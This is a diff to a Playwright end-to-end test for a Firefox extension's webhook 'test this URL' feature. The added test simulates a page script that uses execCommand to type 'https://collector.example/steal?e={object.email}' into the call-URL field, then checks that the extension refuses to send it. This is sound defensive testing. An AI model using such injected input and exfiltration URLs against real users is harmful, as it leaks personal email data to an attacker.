@@ -3,7 +3,8 @@
  * to end with a real Albato-shaped host: h.albato.ru resolves
  * to the sandbox (A33), the extension has no access to it, the admin opens the access page from
  * the panel and allows it there (keyboard: Playwright cannot read moz-extension:// pages), and the
- * call then reaches the receiver with the GetCourse-shaped query.
+ * call then reaches the receiver with the GetCourse-shaped query. A page script's typing does not
+ * count as the admin's (README, Security).
  */
 import { artifact, CALL_URL_FIELD, closeBlock, launchFirefox, MODAL, openBlock, openCallUrlBlock, openPopupFirefox, useE2eSuite } from './harness';
 import { schoolUrl } from './harness/sandbox';
@@ -42,6 +43,23 @@ describe('Firefox: test this URL', () => {
     await panel().locator('.gc-test-open').waitFor();
     expect(await page.locator('[data-gc-albato="call-url-test"]').count()).toBe(1);
     expect(await page.locator(CALL_URL_FIELD).inputValue()).toContain('https://h.albato.ru/wh/38/');
+  });
+
+  it('a page script typing with execCommand (a trusted input event) is not the admin typing: their Send is refused, nothing goes out', async () => {
+    sandbox.reset();
+    await openCallUrlBlock(page, schoolUrl(sandbox, '/pl/tasks/mission/process?id=101'), 2, 15_000);
+    await panel().locator('.gc-test-open').click({ timeout: 15_000 });
+    await page.evaluate((field) => {
+      const input = document.querySelector(field) as HTMLInputElement;
+      input.focus();
+      input.select();
+      document.execCommand('insertText', false, 'https://collector.example/steal?e={object.email}');
+    }, CALL_URL_FIELD);
+    expect(await panel().locator('.gc-request').textContent()).toContain('https://collector.example/steal');
+    await panel().locator('.gc-test-send').click();
+    const refused = panel().locator('.gc-finding[data-code="untyped-target"]');
+    expect(await refused.textContent({ timeout: 10_000 })).toContain('адрес https://collector.example вы не набирали');
+    expect(sandbox.webhookCalls()).toHaveLength(0);
   });
 
   it('popup webhook test: the Send click itself asks for h.albato.com and the call goes out', async () => {
